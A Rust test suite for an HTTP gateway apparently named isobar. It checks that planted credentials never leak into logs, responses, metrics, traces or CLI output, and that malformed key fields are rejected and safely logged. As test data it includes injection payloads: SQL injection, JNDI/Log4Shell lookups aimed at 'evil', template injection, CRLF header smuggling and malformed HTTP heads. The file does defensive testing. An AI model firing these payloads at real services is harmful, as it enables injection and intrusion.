//! Secrets show nowhere: each is planted once, everything is provoked, and every text that leaves the process is searched.

use std::{collections::BTreeMap, fs};

use base64::Engine as _;
use isobar_sandbox::{Fault, Upstream};
use isobar_tests::{raw, see};
use tokio::process::Command;

use super::binary::{PATIENCE, PROGRAM, Place, client};

/// A secret that occurs nowhere by accident and reads the same in no encoding.
fn secret(name: &str) -> String {
    format!("planted/{name}+{:032x}=", fastrand::u128(..))
}

/// The forms in which a secret might be told, its end among them.
fn forms(secret: &str) -> Vec<String> {
    let engine = base64::engine::general_purpose::STANDARD_NO_PAD;
    let escaped = secret
        .replace('/', "%2F")
        .replace('+', "%2B")
        .replace('=', "%3D");
    let bytes: Vec<String> = secret.bytes().map(|byte| byte.to_string()).collect();
    let mut forms = vec![
        secret.to_owned(),
        escaped.to_lowercase(),
        escaped,
        bytes.join(", "),
        // The digits alone, whatever stands around them.
        secret
            .chars()
            .rev()
            .skip(1)
            .take(32)
            .collect::<Vec<_>>()
            .into_iter()
            .rev()
            .collect(),
    ];
    // Base64 of the secret at each offset within three bytes; the ends depend on what is beside it.
    for before in 0..3 {
        let text = engine.encode(format!("{}{secret}", &"xxx"[..before]));
        forms.push(text[4..text.len() - 4].to_owned());
    }
    forms
}

/// A token that is signed with this secret.
fn token(secret: &str) -> String {
    let encoded = |bytes: &[u8]| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes);
    let claims = r#"{"iss":"login","aud":"isobar","sub":"ada","exp":4000000000}"#;
    let message = format!(
        "{}.{}",
        encoded(br#"{"alg":"HS256"}"#),
        encoded(claims.as_bytes())
    );
    let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, secret.as_bytes());
    let signature = ring::hmac::sign(&key, message.as_bytes());
    format!("{message}.{}", encoded(signature.as_ref()))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_secret_is_in_any_log_answer_metric_or_page() {
    let (a, b, q, collector) = (
        Upstream::start("a").await.unwrap(),
        Upstream::start("b").await.unwrap(),
        Upstream::start("q").await.unwrap(),
        Upstream::start("collector").await.unwrap(),
    );
    let names = [
        "client",
        "bearer",
        "header",
        "basic",
        "query",
        "file",
        "wrong",
        "body",
        "cookie",
        "clients_query",
        "collector",
        "store",
        "signer",
        "issuer",
    ];
    let mut secrets: BTreeMap<&str, String> = names.map(|name| (name, secret(name))).into();
    secrets.insert("token", token(&secrets["issuer"]));
    let rest = |extra: &str| {
        format!(
            "clients:\n  shop: {{ key: \"{}\" }}\n  \
             staff: {{ token: {{ issuer: login, audience: isobar, algorithms: [HS256], secret: \"${{ISSUER}}\" }} }}\n\
             otlp: {{ endpoint: \"{c}\", sample: 1, every: 1s, headers: {{ x-collector: \"${{COLLECTOR}}\" }} }}\n\
             upstreams:\n  bearer: {{ url: \"{a}\", auth: {{ bearer: \"${{BEARER}}\" }} }}\n  \
             header: {{ url: \"{a}\", auth: {{ header: {{ name: x-vendor-key, value: \"${{HEADER}}\" }} }} }}\n  \
             basic: {{ url: \"{a}\", auth: {{ basic: {{ user: us, password: \"${{BASIC}}\" }} }} }}\n  \
             query: {{ url: \"{q}\", auth: {{ query: {{ name: key, value: \"${{QUERY}}\" }} }}, probe: {{ path: /healthz, every: 100ms }} }}\n  \
             file: {{ url: \"{a}\", auth: {{ bearer: \"file(secret.txt)\" }} }}\n  \
             signed: {{ url: \"{a}\", auth: {{ sigv4: {{ access_key_id: us, secret_access_key: \"${{SIGNER}}\", region: eu, service: s3 }} }} }}\n  \
             other: \"{b}\"\n\
             routes:\n{routes}  - match: \"/ruled\"\n    limits: {{ rate: {{ route: {{ requests: 1000, per: 1s, shared: true }} }} }}\n    forward:\n      members: [other]\n      \
             rules: [ {{ when: \"= request.headers.authorization > 3\", members: [other] }}, {{ when: \"= request.headers['x-api-key'] == 'x'\", members: [other] }} ]\n      \
             request_headers: {{ set: {{ x-copy: $.request.headers.authorization }} }}\n{extra}",
            isobar_config::hash_key(&secrets["client"]),
            a = a.url(),
            c = collector.url(),
            b = b.url(),
            q = q.url(),
            routes = ["bearer", "header", "basic", "query", "file", "signed"]
                .iter()
                .flat_map(|name| ["exchange", "stream"].map(|mode| (name, mode)))
                .map(|(name, mode)| format!("  - {{ match: \"/{mode}/{name}\", forward: {{ members: [{name}, other], mode: {mode} }} }}\n"))
                .collect::<String>(),
        )
    };
    let mut place = Place::new(&rest(""));
    place.shared = Some("{ url: \"${STORE}\" }".to_owned());
    place.write("127.0.0.1:0".parse().unwrap(), &rest(""));
    // Nobody is there, so that everything there is to say of the store is said.
    let store = secrets["store"].replace('/', "%2F").replace('+', "%2B");
    let store = format!("redis://:{}@127.0.0.1:1", store.replace('=', "%3D"));
    fs::write(place.path("secret.txt"), &secrets["file"]).unwrap();
    let variables = [
        ("BEARER", &*secrets["bearer"]),
        ("HEADER", &secrets["header"]),
        ("BASIC", &secrets["basic"]),
        ("QUERY", &secrets["query"]),
        ("COLLECTOR", &secrets["collector"]),
        ("STORE", &store),
        ("SIGNER", &secrets["signer"]),
        ("ISSUER", &secrets["issuer"]),
        ("ISOBAR_LOG", "trace"),
        ("RUST_BACKTRACE", "full"),
    ];
    let running = place.start_with(&variables).await;
    let mut told = String::new();

    let faults = [
        Fault::None,
        Fault::status(401),
        Fault::status(500),
        Fault::ResetBeforeHead,
        Fault::Truncated,
        Fault::raw("HTTP/1.1 nonsense\r\n\r\n"),
        Fault::raw(format!(
            "HTTP/1.1 302 Found\r\nlocation: {}/x?key={}\r\ncontent-length: 0\r\n\r\n",
            q.url(),
            secrets["query"]
        )),
    ];
    for mode in ["exchange", "stream"] {
        for name in ["bearer", "header", "basic", "query", "file", "signed"] {
            // The account with its key in the query has a server of its own: only there does a redirect repeat it.
            let (server, count) = if name == "query" {
                (&q, faults.len())
            } else {
                (&a, faults.len() - 1)
            };
            for fault in &faults[..count] {
                server.script([fault.clone()]);
                for method in ["GET", "POST"] {
                    let url =
                        running.url(&format!("/{mode}/{name}?mine={}", secrets["clients_query"]));
                    let request = client()
                        .request(method.parse().unwrap(), url)
                        .header("authorization", format!("Bearer {}", secrets["client"]))
                        .header("cookie", format!("session={}", secrets["cookie"]))
                        .body(secrets["body"].clone());
                    let seen = see(request).await;
                    told.push_str(&format!("{:?}\n", seen.headers));
                    // What the vendor says of the request is the vendor's to say.
                    if seen.vendor() == "none" {
                        told.push_str(&seen.text());
                    }
                }
            }
        }
    }
    for (header, key) in [
        ("authorization", format!("Bearer {}", secrets["wrong"])),
        ("authorization", format!("Bearer {}", secrets["client"])),
        ("authorization", format!("Basic {}", secrets["wrong"])),
        ("authorization", format!("Bearer {}", secrets["token"])),
        ("authorization", format!("Bearer {}x", secrets["token"])),
        ("x-api-key", secrets["token"].clone()),
        ("authorization", secrets["wrong"].clone()),
        ("x-api-key", secrets["wrong"].clone()),
        (
            "api-key",
            format!("{}'\" OR 1=1; -- ${{jndi:ldap://x}}", secrets["wrong"]),
        ),
        ("x-goog-api-key", secrets["client"].clone()),
    ] {
        for path in ["/ruled", "/exchange/bearer", "/nowhere"] {
            let seen = see(client().get(running.url(path)).header(header, key.clone())).await;
            told.push_str(&format!("{:?}\n", seen.headers));
            if seen.vendor() == "none" {
                told.push_str(&seen.text());
            }
        }
    }
    // Heads that Pingora itself refuses, with the key in them.
    for (line, end) in [
        ("GET / HTTP/1.1", "\r\nx : y\r\n\r\n"),
        ("GET / HTTP/1.1", "\r\nhost: h\r\ncontent-length: x\r\n\r\n"),
        ("G@T / HTTP/1.1", "\r\n\r\n"),
        ("GET / HTTP/9.9", "\r\n\r\n"),
        ("CONNECT h:1 HTTP/1.1", "\r\nhost: h\r\n\r\n"),
        ("GET / HTTP/1.1", "\r\n"),
        ("GET / HTTP/1.1", ""),
    ] {
        let head = format!(
            "{line}\r\nAuthorization: Bearer {}\r\nX-Api-Key: {}{end}",
            secrets["client"], secrets["wrong"]
        );
        if end.ends_with("\r\n\r\n") {
            told.push_str(&raw(running.address, head, PATIENCE).await);
        } else {
            // The client leaves in the middle of its head.
            raw(running.address, head, std::time::Duration::from_millis(50)).await;
        }
    }
    for page in ["/status", "/config", "/metrics", "/healthz", "/readyz"] {
        let seen = running.admin("GET", page).await;
        assert_eq!(seen.status, 200, "{page}");
        told.push_str(&seen.text());
    }
    // Reloads, good and broken, right beside the secrets.
    place.write("127.0.0.1:0".parse().unwrap(), &rest("unknown: key\n"));
    let refused = running.admin("POST", "/reload").await;
    assert_eq!(refused.status, 422);
    told.push_str(&refused.text());
    running.signal("-HUP").await;
    running.says("not reloaded").await;
    place.write("127.0.0.1:0".parse().unwrap(), &rest(""));
    running.signal("-HUP").await;
    running.says("reloaded: generation").await;

    for arguments in [
        &["check"][..],
        &["check", "--json"],
        &["check", "--sarif"],
        &["explain", "GET /exchange/query"],
        &["explain", "GET /ruled"],
    ] {
        let mut command = Command::new(PROGRAM);
        command
            .args(arguments)
            .arg("--config")
            .arg(place.config())
            .envs(variables);
        let done = command.output().await.unwrap();
        assert!(
            done.status.success(),
            "{arguments:?}: {}",
            String::from_utf8_lossy(&done.stderr)
        );
        told.push_str(&String::from_utf8_lossy(&done.stdout));
        told.push_str(&String::from_utf8_lossy(&done.stderr));
    }
    running.signal("-TERM").await;
    let said = running.said();
    assert_eq!(running.left().await, Some(0));
    told.push_str(&said);
    for file in ["stdout-1", "stderr-1"] {
        told.push_str(&fs::read_to_string(place.path(file)).unwrap());
    }
    told.push_str(&place.access_log());
    // What the collector was sent, besides the credential that is its own.
    let sent = collector.ledger();
    assert!(sent.len() > 1, "nothing is traced");
    for entry in &sent {
        told.push_str(&String::from_utf8_lossy(&entry.body));
    }

    // Each was really in play.
    let wire = format!("{:?}{:?}{:?}{sent:?}", a.ledger(), b.ledger(), q.ledger());
    for name in [
        "bearer",
        "header",
        "query",
        "file",
        "cookie",
        "clients_query",
        "collector",
    ] {
        assert!(
            forms(&secrets[name]).iter().any(|form| wire.contains(form)),
            "`{name}` was never used"
        );
    }
    let hash = isobar_config::hash_key(&secrets["client"]);
    for (name, secret) in &secrets {
        for form in forms(secret) {
            let found = told.find(&form).map(|at| {
                told[at.saturating_sub(300)..]
                    .chars()
                    .take(600)
                    .collect::<String>()
            });
            assert_eq!(found, None, "`{name}` is told as `{form}`");
        }
    }
    let digest = hash.strip_prefix("sha256:").unwrap();
    assert!(
        !told.contains(digest),
        "the digest of the client's key is told"
    );
    assert!(
        told.contains("\"subject\":\"ada\""),
        "the token was never good"
    );
    for name in ["client", "wrong", "token", "signer", "issuer"] {
        let secret = &secrets[name];
        assert!(
            forms(secret)
                .iter()
                .all(|form| !wire.contains(form.as_str())),
            "`{name}` reached a vendor"
        );
    }
}

#[tokio::test]
async fn whatever_is_in_a_key_field_is_one_line_in_the_log_and_no_byte_of_it() {
    let mut place = Place::new(&format!(
        "clients: {{ shop: {{ key: \"{}\" }} }}\nroutes: [ {{ match: \"/*\", respond: {{ body: hi }} }} ]\n",
        isobar_config::hash_key("shop-key-0123456789abcdef"),
    ));
    let running = place.start().await;
    let long = "L".repeat(40_000);
    let fields: [(&[u8], &[u8]); 9] = [
        (b"'; DROP TABLE keys; --", b"DROP"),
        (b"\" OR \"\"=\"", b"OR"),
        (b"${jndi:ldap://evil/x}", b"jndi"),
        (b"{{7*7}}", b"7*7"),
        (b"%0d%0aSet-Cookie: x=y", b"Set-Cookie"),
        (b"\xff\xfe\xfd\x80", b"\xff"),
        (b"\x1b[31mred", b"[31m"),
        ("\u{2028}line".as_bytes(), "\u{2028}".as_bytes()),
        (long.as_bytes(), b"LLLL"),
    ];
    for (count, (field, _)) in fields.iter().enumerate() {
        let header = ["Authorization: Bearer ", "X-Api-Key: "][count % 2];
        let request = [
            b"GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n",
            header.as_bytes(),
            field,
            b"\r\n\r\n",
        ]
        .concat();
        let seen = raw(running.address, request, PATIENCE).await;
        let status = isobar_tests::status_of(&seen);
        // An escape character is no part of a header at all.
        assert!(
            status == 401 || status == 400 && field.contains(&0x1b),
            "{}: {seen}",
            field.escape_ascii()
        );
    }
    // A new line in a path or a host cannot come in, and what can is escaped.
    let odd = raw(
        running.address,
        "GET /%22%7d%0a HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n",
        PATIENCE,
    )
    .await;
    assert_eq!(isobar_tests::status_of(&odd), 400);
    running.signal("-TERM").await;
    assert_eq!(running.left().await, Some(0));
    let written = fs::read(place.path("access.log")).unwrap();
    let lines: Vec<_> = written
        .split(|byte| *byte == b'\n')
        .filter(|line| !line.is_empty())
        .collect();
    // One for each request that had a readable head: not the one with the escape character, but the odd path.
    assert_eq!(lines.len(), fields.len());
    for line in &lines {
        serde_json::from_slice::<serde_json::Value>(line).unwrap();
    }
    for (field, part) in fields {
        let told = written.windows(part.len()).any(|window| window == part);
        assert!(!told, "{} is in the log", field.escape_ascii());
    }
}
